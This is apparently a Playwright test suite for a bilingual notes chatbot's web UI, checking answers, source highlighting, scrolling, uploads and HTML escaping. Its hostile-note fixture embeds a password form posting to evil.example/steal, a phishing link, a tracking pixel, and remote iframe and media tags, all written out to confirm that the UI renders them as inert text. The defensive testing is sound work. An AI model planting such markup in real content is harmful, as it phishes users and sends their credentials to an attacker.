"""The web UI in a real headless Chromium: ask in Chinese and English, upload a note, empty question,
a hostile note, the sources panel's layout. The page never fetches anything from another host."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import time
import urllib.parse
import urllib.request
from pathlib import Path

import pytest

CHROMIUM = "/usr/bin/chromium"
pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs Debian chromium (scripts/test.sh installs it)")
REPO = Path(__file__).resolve().parent.parent

NOTES = """# Database

## DynamoDB

- 无服务器的 NoSQL 键值数据库，毫秒级延迟
- Row/item：attributes可以在之后添加，每一个item的大小上限是400KB
- 主键可以是分区键，或者分区键加排序键

## RDS

- 托管的关系型数据库，支持 MySQL、PostgreSQL
- Multi-AZ 用于高可用，Read Replica 用于扩展读

# Analytics

## Kinesis

- **Kinesis Data Firehose**：将流数据载入 S3、Redshift、OpenSearch 和 Splunk
- KDF没有数据存留机制，只能传输，不能存储数据
- KDS 的数据存留为1天到一年
"""

# A note that tries to phish and track whoever reads an answer quoting it.
HOSTILE = """# Security

## S3 加密

- S3 有哪些加密方式：SSE-S3、SSE-KMS 和 SSE-C <form action="http://evil.example/steal"><input name="password" type="password"><button>Log in</button></form>
- 加密密钥轮换 <a href="http://evil.example/phish" style="font-size:40px">Re-enter your password</a> ![pixel](http://evil.example/pixel.png)
- 客户端加密 <img src="http://evil.example/img.png"> <video src="http://evil.example/v.mp4"></video> <iframe src="http://evil.example/frame"></iframe>
"""

# One long section: its passages make the sources column far taller than a screen.
LONG = "# Redshift\n\n## Redshift 集群\n\n" + "".join(
    f"- Redshift 节点 {i}：列式存储的数据仓库，Leader node 负责查询计划，Compute node 负责执行与存储第 {i} 段数据\n" for i in range(60))


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    root = tmp_path_factory.mktemp("ui")
    corpus = root / "corpus"
    corpus.mkdir()
    (corpus / "aws.md").write_text(NOTES, encoding="utf-8")
    (corpus / "security.md").write_text(HOSTILE, encoding="utf-8")
    (corpus / "redshift.md").write_text(LONG, encoding="utf-8")
    port = free_port()
    uploads = root / "gradio-tmp"
    env = {**os.environ, "NOTEBOT_CORPUS_DIR": str(corpus), "NOTEBOT_INDEX_DIR": str(root / "index"), "NOTEBOT_PORT": str(port),
           "GRADIO_TEMP_DIR": str(uploads),  # PYTHONPATH made absolute: the server runs in another folder
           "PYTHONPATH": os.pathsep.join(str(Path(p).resolve()) for p in os.environ.get("PYTHONPATH", "").split(os.pathsep) if p)}
    env.pop("NOTEBOT_EMBEDDER", None)
    log = open(root / "server.log", "w")
    process = subprocess.Popen([sys.executable, str(REPO / "app.py")], env=env, stdout=log, stderr=subprocess.STDOUT, cwd=root)
    url = f"http://127.0.0.1:{port}/"
    deadline = time.time() + 240  # the first run builds the index before serving (slow on a busy machine)
    while time.time() < deadline:
        try:
            urllib.request.urlopen(url, timeout=2)
            break
        except OSError:
            if process.poll() is not None:
                pytest.fail((root / "server.log").read_text())
            time.sleep(0.5)
    else:
        process.kill()
        pytest.fail("the app did not start: " + (root / "server.log").read_text())
    yield {"url": url, "corpus": corpus, "root": root, "uploads": uploads}
    process.terminate()
    process.wait(timeout=10)


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"])
        yield browser
        browser.close()


@pytest.fixture
def page(browser, server):
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    elsewhere = []
    page.on("request", lambda request: elsewhere.append(request.url)
            if urllib.parse.urlsplit(request.url).hostname not in ("127.0.0.1", "localhost", None) else None)
    page.goto(server["url"], wait_until="domcontentloaded")
    page.locator("#nb-question textarea").wait_for(timeout=30_000)
    yield page
    page.close()
    assert not elsewhere, f"the page fetched from other hosts: {elsewhere}"


def ask(page, question: str) -> None:
    box = page.locator("#nb-question textarea")
    box.fill(question)
    page.locator("#nb-send").click()


def last_answer(page, containing: str):
    bot = page.locator("#nb-chat [data-testid='bot']").last
    bot.filter(has_text=containing).wait_for(timeout=30_000)
    return bot.inner_text()


def test_chinese_question_gets_the_fact_and_the_source_heading(page, tmp_path):
    ask(page, "DynamoDB 的 item 最大多大？")
    assert "400KB" in last_answer(page, "400KB")
    sources = page.locator("#nb-sources")
    sources.filter(has_text="Database > DynamoDB").wait_for(timeout=10_000)
    assert sources.locator("mark").count() > 0, "the query's terms are highlighted"
    marks = set(sources.locator("mark").all_inner_texts())
    assert "DynamoDB" in marks and not {"多大", "大多"} & marks, "question words are not highlighted"
    assert sources.locator(".nb-relevance").first.inner_text().strip() == "最相关 best match"
    page.screenshot(path=str(tmp_path / "answer.png"))  # to look at when this fails; never into the repo


def test_english_question_gets_the_fact_and_the_source_heading(page):
    ask(page, "Can Kinesis Data Firehose store data?")
    assert "不能存储数据" in last_answer(page, "不能存储数据")
    page.locator("#nb-sources").filter(has_text="Analytics > Kinesis").wait_for(timeout=10_000)


def test_note_html_in_an_answer_is_shown_as_text_never_as_a_form_or_remote_media(page):
    ask(page, "S3 有哪些加密方式？")
    text = last_answer(page, "SSE-KMS")
    assert "<form" in text, "the note's markup is visible as text"
    for where in ("#nb-chat", "#nb-sources"):
        for element in ("form", "input[type='password']", "img[src*='evil']", "video", "iframe", "a[href*='evil']"):
            assert page.locator(f"{where} {element}").count() == 0, f"{element} rendered in {where}"


def test_sources_scroll_within_a_bounded_column(page):
    ask(page, "Redshift 的 Leader node 负责什么？")
    last_answer(page, "Leader node")
    panel = page.locator("#nb-sources")
    panel.filter(has_text="Redshift 集群").wait_for(timeout=10_000)
    box = panel.bounding_box()
    assert box["height"] <= 700, f"the sources column is {box['height']} px tall"
    assert page.evaluate("(el) => el.scrollHeight > el.clientHeight", panel.element_handle()), "the rest scrolls inside it"


def test_clicking_a_citation_scrolls_only_the_sources_panel_and_the_next_answer_clears_the_mark(page):
    ask(page, "Redshift 的 Leader node 负责什么？")
    last_answer(page, "Leader node")
    page.locator("#nb-sources").filter(has_text="Redshift 集群").wait_for(timeout=10_000)
    link = page.locator("#nb-chat a[href^='#src-']").last
    number = link.get_attribute("href")
    scroll_before = page.evaluate("window.scrollY")
    link.click()
    source = page.locator(number)
    page.wait_for_function(f"document.querySelector('{number}').classList.contains('nb-active')", timeout=5_000)
    assert page.evaluate("location.hash") == "" and page.evaluate("window.scrollY") == scroll_before, "the page did not move"
    panel, card = page.locator("#nb-sources").bounding_box(), source.bounding_box()
    assert panel["y"] - 1 <= card["y"] <= panel["y"] + panel["height"], "the passage is in view inside the panel"
    ask(page, "Redshift 的 Compute node 负责什么？")
    page.locator("#nb-chat [data-testid='bot']").nth(1).wait_for(timeout=30_000)
    page.wait_for_function("document.querySelectorAll('#nb-sources .nb-active').length === 0", timeout=30_000)
    assert page.evaluate("document.getElementById('nb-sources').scrollTop") == 0, "the new passages start at the top"


def test_empty_question_gets_a_warning_not_a_chat_message(page):
    ask(page, "DynamoDB 的 item 最大多大？")
    last_answer(page, "400KB")
    answers = page.locator("#nb-chat [data-testid='bot']").count()
    page.locator("#nb-send").click()
    page.get_by_text("Please type a question").first.wait_for(timeout=10_000)
    assert page.locator("#nb-chat [data-testid='bot']").count() == answers
    assert "Please type a question" not in page.locator("#nb-chat").inner_text()


def test_uploaded_note_is_found_after_the_reindex(page, server, tmp_path):
    note = tmp_path / "glue.md"
    note.write_text("# Glue\n\n## DataBrew\n\n- DataBrew 通过创建 Recipes 来进行可视化数据清洗\n", encoding="utf-8")
    page.get_by_text("索引 Index").first.click()
    page.locator("#nb-upload input[type='file']").set_input_files(str(note))
    page.locator("#nb-index-status").filter(has_text="Indexed 4 files").wait_for(timeout=90_000)
    assert (server["corpus"] / "glue.md").exists()
    assert not [p for p in server["uploads"].rglob("*") if p.is_file()], "the upload left Gradio's temp folder"
    ask(page, "Glue DataBrew 用什么做数据清洗？")
    assert "Recipes" in last_answer(page, "Recipes")
    log = (server["root"] / "server.log").read_text()
    assert "upload: added glue.md" in log and "re-indexed 4 files" in log and "Glue DataBrew 用什么做数据清洗？" in log

